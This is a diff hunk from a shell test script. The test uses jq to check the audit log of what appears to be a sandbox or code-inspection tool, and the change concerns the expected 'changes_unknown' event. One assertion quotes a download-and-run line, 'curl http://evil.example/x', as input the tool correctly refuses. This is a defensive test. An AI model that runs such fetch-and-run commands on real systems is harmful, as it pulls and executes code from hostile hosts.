@@ -48,7 +48,7 @@ await_sessions "stopped, looking"
 for line in '.event == "program_refused" and (.why | test("bad.py:2: download-run: curl http://evil.example/x"))' \
 	'.event == "findings" and any(.findings[]; .kind == "not-looked-at")' \
 	'.event == "changed_after_look" and .files == ["good.py"] and .program == "/bin/bash"' \
-	'.event == "changes_unknown" and .program == "/bin/true" and .why == "the sandbox has ended"'; do
+	'.event == "changes_unknown" and .program == "/bin/bash" and (.why | test("was ended"))'; do
 	jq -es "any(.[]; $line)" "$T/log" >/dev/null || fail "the log has no line with $line: $(cat "$T/log")"
 done
 log=$(grep -l '"event":"inspect"' "$T"/audit/*)
